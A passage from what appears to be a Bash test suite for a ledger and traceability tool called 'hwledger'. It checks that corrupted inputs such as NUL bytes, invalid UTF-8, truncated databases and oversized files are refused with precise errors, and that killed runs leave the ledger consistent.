{ printf '{}\n\n'; printf '\0'; } > checks/trace.json@:3:1: invalid JSON: contains a NUL byte
head -c 100000 /dev/zero | tr '\0' '[' > checks/trace.json@:1:
rm checks/trace.json && ln big checks/trace.json@:1:1: invalid JSON
sed -i 's/"FR-APP-001"/"FR-APP-\o377"/; s/"summary"/"s\o377"/' checks/trace.json@:1: "summary" is missing
printf '' > checks/trace.json@:
EOF2
  [ "$(find out -type f -exec sha256sum {} + | sort | sha256sum)" = "$sum" ]
}

# Verifies: FR-REPORT-001, FR-LEDGER-002
test_hostile_report_killed_at_any_point_keeps_the_ledger_and_the_site() {
  report_repo
  # the report that is killed later must have made a site first
  run "$HW" -q report "${REPORT_INPUTS[@]}"
  expect_rc 0
  [ -d build/site ] || { echo "the first report made no site: $ERR"; return 1; }
  per=$(sqlite3 .hwledger/ledger.db 'SELECT count(*) FROM events')
  # the signer's public key, kept out of build/checks: that is the work
  # folder a killed run may have been clearing (whatever the kill's time
  # falls on, on a slow or a fast machine)
  cp build/checks/signing-key.pub signer.pub
  # kills spread over a report's run of about a second;
  # the whole process group, analyzers included, as a CI runner does
  for delay in 0.15 0.4 0.8; do
    before=$(sqlite3 .hwledger/ledger.db 'SELECT count(*) FROM events')
    setsid "$HW" -q report "${REPORT_INPUTS[@]}" >/dev/null 2>&1 &
    pid=$!
    sleep "$delay"
    kill -9 -- -"$pid" 2>/dev/null || true
    wait "$pid" 2>/dev/null || true
    after=$(sqlite3 .hwledger/ledger.db 'SELECT count(*) FROM events')
    # one report's events land all together or not at all
    [ "$after" = "$before" ] || [ "$after" = $((before + per)) ] ||
      { echo "killed after ${delay}s: $before events became $after"; return 1; }
    run timeout 20 "$HW" verify-report --key signer.pub build/site
    expect_rc 0
  done
  run timeout 20 "$HW" ledger verify --key signer.pub
  expect_rc 0
}

# Verifies: FR-LEDGER-005
test_hostile_bundle_and_key_files_with_garbage_are_refused() {
  hostile_ledger
  "$HW" -q ledger checkpoint >/dev/null
  "$HW" -q ledger export --bundle good
  # a NUL byte anywhere, even after the last line, is refused: a reader
  # of C strings would stop there and ignore what follows
  while IFS='@' read -r edit want; do
    rm -rf b && cp -r good b
    eval "$edit"
    run timeout 20 "$HW" ledger verify --bundle b --key alice.line
    expect_no_crash
    expect_rc 2
    expect_err "hwledger: b/$want"
  done <<'EOF2'
printf '\0' >> b/events.jsonl@events.jsonl:5:1: binary data (a NUL byte) in a bundle's events
{ head -n 2 good/events.jsonl; printf 'x\0'; tail -n +3 good/events.jsonl; } > b/events.jsonl@events.jsonl:3:2: binary data (a NUL byte)
printf '{"seq": 4, "kind": "\377"}\n' >> b/events.jsonl@events.jsonl:5: not a valid event line
{ head -n 1 good/events.jsonl; sed -n 2p good/events.jsonl | head -c 100; } > b/events.jsonl@events.jsonl:2: not a valid event line
big_line x 104857600 && cat x >> b/events.jsonl && rm x@events.jsonl:5: not a valid event line
printf '\n' >> b/events.jsonl@events.jsonl:5: not a valid event line
head -c 30 good/checkpoint > b/checkpoint@checkpoint:2: checkpoint must end with a newline
printf '\0' >> b/checkpoint@checkpoint:6:1: binary data (a NUL byte) in a checkpoint
EOF2
  # the trusted keys and a key given with --key
  cp traceability/trusted_keys keys
  for f in traceability/trusted_keys alice.line; do
    { cat keys; printf '\0garbage\n'; } > "$f"
    run timeout 20 "$HW" ledger verify --bundle good --key alice.line
    [ "$f" = alice.line ] || run timeout 20 "$HW" ledger verify
    expect_rc 2
    expect_err "hwledger: $f:2:1: binary data (a NUL byte) in a key file"
    printf 'al\377ce+12345678+AAAA\n' > "$f"
    run timeout 20 "$HW" ledger verify --bundle good --key alice.line
    [ "$f" = alice.line ] || run timeout 20 "$HW" ledger verify
    expect_rc 2
    expect_err "hwledger: $f:1: bad key name"
    cp keys "$f"
  done
  # the key rotate hands over to, and the signing key
  { head -c -1 alice.line; printf '\0junk'; } > next.pub
  run timeout 20 "$HW" ledger rotate --to next.pub
  expect_rc 2
  expect_err "hwledger: next.pub:1:"
  expect_err "binary data (a NUL byte) in a key file"
  cp .hwledger/keys/alice.key key && printf '\0' >> key
  run timeout 20 env HWLEDGER_SIGNING_KEY=key "$HW" ledger append --kind x
  expect_rc 2
  expect_err "hwledger: key:4:1: binary data (a NUL byte) in a key file"
  [ "$(sql 'SELECT count(*) FROM events')" = 4 ]
  "$HW" -q ledger verify --bundle good --key alice.line
}

# Verifies: FR-LEDGER-002, FR-LEDGER-005
test_hostile_ledger_binary_payloads_are_kept_byte_for_byte() {
  hostile_ledger
  # NUL bytes, invalid UTF-8, no newline at the end, an empty payload
  printf 'a\0b\377\376\r\n\0' > bin
  : > empty
  "$HW" -q ledger append --kind bin --payload bin --payload-type application/octet-stream \
    --kind empty --payload empty
  "$HW" -q ledger append --kind stdin --payload - < bin
  "$HW" -q ledger checkpoint >/dev/null
  "$HW" -q ledger export --bundle b
  run timeout 20 "$HW" ledger verify --bundle b --key alice.line
  expect_rc 0
  expect_out "7 events verified"
  for n in 5 7; do
    sed -n "${n}p" b/events.jsonl | jq -r .payload | base64 -d > got
    cmp bin got
  done
  [ "$(sed -n 6p b/events.jsonl | jq -r .payload)" = "" ]
  [ "$(sql "SELECT hex(payload) FROM events WHERE seq=4")" = "$(od -An -tx1 bin | tr -d ' \n' | tr a-f A-F)" ]
}

# Verifies: FR-LEDGER-002, FR-CLI-002
test_hostile_ledger_database_that_is_garbage_is_an_error_and_kept() {
  hostile_ledger
  cp .hwledger/ledger.db good.db
  size=$(stat -c %s good.db)
  for cut in "head -c $((size / 2)) good.db" "head -c 50 good.db" "head -c 65536 /dev/urandom"; do
    $cut > .hwledger/ledger.db
    sum=$(sha256sum < .hwledger/ledger.db)
    for cmd in "ledger verify" "ledger append --kind x" "ledger log" "ledger checkpoint"; do
      # shellcheck disable=SC2086
      run timeout 20 "$HW" $cmd
      expect_no_crash
      expect_rc 3
      expect_err "hwledger: .hwledger/ledger.db: cannot set up the ledger: "
    done
    [ "$(sha256sum < .hwledger/ledger.db)" = "$sum" ] || { echo "the damaged database was changed"; return 1; }
  done
  # an empty file: the ledger is shorter than what this machine verified
  : > .hwledger/ledger.db
  expect_verify_fails "event 0: this machine verified 4 events before; the ledger now has 0"
  cp good.db .hwledger/ledger.db
  "$HW" -q ledger verify
}

# Verifies: FR-GLOSS-001, FR-TRACE-006
test_hostile_glossary_and_policy_garbage_is_refused() {
  cp -r "$FIXTURES/trace/ours" repo && cd repo
  printf '**Term**: def\n\0junk\n' > nul.md
  printf '**Term**: def\n\377junk\n' > utf.md
  big_line big.md 70000000
  while IFS='@' read -r f want; do
    run timeout 20 "$HW" glossary import "$f"
    expect_no_crash
    expect_rc 2
    expect_err "hwledger: $f$want"
  done <<'EOF2'
nul.md@:2:1: not UTF-8 text (byte 0x00)
utf.md@:2:1: not UTF-8 text (byte 0xff)
big.md@: file is 70000000 bytes, over the limit of 67108864
EOF2
  mkdir -p traceability
  printf '{"schema": "hwledger.policy/1",\0}' > traceability/policy.json
  run timeout 20 "$HW" gate --results results.xml
  expect_rc 2
  expect_err "hwledger: traceability/policy.json:1:32: invalid JSON: contains a NUL byte"
  head -c 100000 /dev/zero | tr '\0' '{' > traceability/policy.json
  run timeout 20 "$HW" gate --results results.xml
  expect_no_crash
  expect_rc 2
  expect_err "hwledger: traceability/policy.json:1:"
  # numbers past a double's range are no way round the limits
  for v in 1e999 -1e999; do
    printf '{"schema": "hwledger.policy/1", "min_verified_share": %s}' "$v" > traceability/policy.json
    run timeout 20 "$HW" gate --results results.xml
    expect_rc 2
    expect_err "hwledger: traceability/policy.json:1: \"min_verified_share\" must be a number from 0 to 1"
    printf '{"schema": "hwledger.policy/1", "coverage_threshold": %s}' "$v" > traceability/policy.json
    run timeout 20 "$HW" gate --results results.xml
    expect_rc 2
    expect_err "hwledger: traceability/policy.json:1: \"coverage_threshold\" must be a percentage from 0 to 100"
  done
}
